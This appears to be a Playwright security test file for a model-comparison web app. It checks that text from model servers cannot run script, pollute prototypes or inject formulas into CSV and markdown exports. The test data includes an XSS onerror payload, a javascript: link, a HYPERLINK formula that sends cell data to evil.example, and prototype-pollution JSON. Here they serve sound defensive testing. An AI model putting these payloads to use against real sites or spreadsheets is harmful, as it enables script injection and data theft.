/** Texts that a model server, its metrics or its answers bring along, in every place of the browser where they are shown or taken away. */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { compareSchema } from '@/lib/contracts/compare';
import { ask, baselineOf, openChat, stopOf } from './chat-page';
import { expect } from './fixtures';
import { testWithModel } from './scripted-fixtures';
import type { Stage } from './stage';

const MARKUP = '<img src=x onerror="window.pwned=1"><b>bold</b>';
const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1)';
const LINK = '[press](javascript:window.pwned=1) ![steal](https://evil.example/x.png)';

const test = testWithModel({}, { modelId: `${MARKUP} ${LINK}`, version: `0.10 ${MARKUP}` });

/** What no foreign text may have become. */
async function expectUntouched(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: 'pwned' in window,
    polluted: 'polluted' in {},
    prototype: Object.keys(Object.prototype).length,
    elements: document.querySelectorAll('main img, main b, main [onerror], a[href^="javascript:"]').length,
  }));
  expect(found).toEqual({ pwned: false, polluted: false, prototype: 0, elements: 0 });
}

async function askAlone(page: Page, stage: Stage, question: string): Promise<void> {
  await openChat(page, stage, '?lanes=baseline');
  await ask(page, question);
  await expect(stopOf(page)).toBeHidden({ timeout: 20_000 });
}

/** Compare with these words as the names of all pods, families and warnings. */
async function openCompareNaming(page: Page, stage: Stage, name: string, search: string): Promise<void> {
  await page.route('**/api/compare?*', async (route) => {
    const compare = compareSchema.parse(await (await route.fetch()).json());
    const metrics = compare.metrics.map((metric) => ({
      ...metric,
      arms: metric.arms.map((arm) => ({
        ...arm,
        pods: [name],
        family: name,
        promql: `${name}\r\n${name}`,
        warnings: [name],
      })),
    }));
    await route.fulfill({ json: { ...compare, metrics } });
  });
  await page.goto(`${stage.url}/compare${search}`);
  await expect(page.locator('[data-metric] svg, [data-opened], table').first()).toBeAttached();
}

test('A23: names from model servers and metrics are text in lanes, sheets, charts and their tooltips', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => ({ chunks: ['fine'], everyMs: 1, finishReason: MARKUP }));
  await askAlone(page, stage, 'Who are you?');
  const lane = baselineOf(page);
  await expect(lane.getByText('finish reason <img src=x onerror=', { exact: false })).toBeVisible();
  await lane.getByRole('button', { name: 'Details, curl' }).click();
  await expect(page.getByRole('dialog')).toContainText(`0.10 ${MARKUP}`);
  await expectUntouched(page);

  await openCompareNaming(page, stage, MARKUP, '?chart=running');
  await expect(page.getByText('<img src=x', { exact: false }).first()).toBeAttached();
  const plot = page.locator('[data-opened] svg, main svg, main canvas').first();
  await plot.hover({ position: { x: 60, y: 20 } });
  await expectUntouched(page);
});

test('A24: what is taken away holds no formula and no link that a foreign text brought along', async ({
  page,
  stage,
}) => {
  await openCompareNaming(page, stage, FORMULA, '?chart=running');
  const [csv] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'CSV' }).click(),
  ]);
  const lines = readFileSync(await csv.path(), 'utf8').split('\r\n');
  expect(lines.some((line) => line.includes('HYPERLINK'))).toBe(true);
  // A spreadsheet runs what a cell begins with; comments are one cell.
  const cells = lines.flatMap((line) => (line.startsWith('#') ? [line] : line.split(',')));
  expect(cells.filter((cell) => /^"?[=+\-@\t]/.test(cell))).toEqual([]);

  await expect
    .poll(async () => {
      const report = await (
        await page.request.get(`${stage.url}/api/checklist/report?format=markdown`)
      ).text();
      // Fenced code is shown as it is; what is left must hold no link of the model's, and no element.
      const prose = report.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
      return {
        names: prose.includes('steal'),
        links: /(?<!\\)\]\((?!https:\/\/)/.test(prose) || /(?<!\\)!\[/.test(prose),
        elements: /(?<!\\)<(?:img|b)\b/.test(prose),
      };
    })
    .toEqual({ names: true, links: false, elements: false });
});

const DEEP = `${'{"a":'.repeat(100)}1${'}'.repeat(100)}`;
const ODD_FRAMES = [
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"choices":[{"index":0,"delta":{"content":"one "}}]}',
  '{"choices":[{"index":0,"delta":{"__proto__":{"content":"no "},"content":"two "},"__proto__":{"polluted":1}}]}',
  `{"deep":${DEEP},"choices":[{"index":0,"delta":{"content":"three "}}]}`,
  '{"created":1e400,"choices":[{"index":0,"delta":{"content":"no"},"delta":{"content":"four "}}]}',
  '{"choices":[{"index":0,"delta":{"content":"\\ud800 five "}}],"usage":{"prompt_tokens":1e308,"completion_tokens":5}}',
].map((json) => `data: ${json}\n\n`);

test('A26: keys of the prototype, deep nesting, huge numbers and lone surrogates change neither page nor server', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => ({ chunks: ['end.'], everyMs: 1, rawFrames: ODD_FRAMES }));
  await askAlone(page, stage, 'Break it.');
  const lane = baselineOf(page);
  await expect(lane.getByRole('region', { name: /Conversation/ })).toContainText(
    /one two three four .{1,3} five end\./,
  );
  await expect(lane.getByText('ended by itself')).toBeVisible();
  await expectUntouched(page);

  // What the tab remembers and what an address says come from outside, too.
  await page.evaluate(() => {
    const remembered = sessionStorage.getItem('chat-1') ?? '{}';
    sessionStorage.setItem('chat-1', `{"__proto__":{"polluted":1},${remembered.slice(1)}`);
  });
  await page.goto(`${stage.url}/chat?lanes=baseline&__proto__=x&constructor=y&tokens=1e400&seed=9e99`);
  await expect(lane.getByText(/five end\./)).toBeVisible();
  await expectUntouched(page);

  const question = '"messages":[{"role":"user","content":"x"}]';
  for (const body of [
    `{"arm":"__proto__",${question}}`,
    `{"arm":"constructor",${question}}`,
    `{"arm":"baseline","arm":"nobody",${question}}`,
    `{"arm":"baseline",${question},"constructor":{"prototype":{"polluted":1}}}`,
    `{"arm":"baseline",${question},"maxTokens":1e400}`,
    `{"arm":"baseline",${question},"extra":${DEEP}}`,
  ]) {
    const headers = { 'content-type': 'application/json' };
    const { status } = await fetch(`${stage.url}/api/chat`, { method: 'POST', headers, body });
    expect([400, 404], body.slice(0, 60)).toContain(status);
  }
  expect(JSON.stringify(await stage.status())).not.toContain('polluted');
});
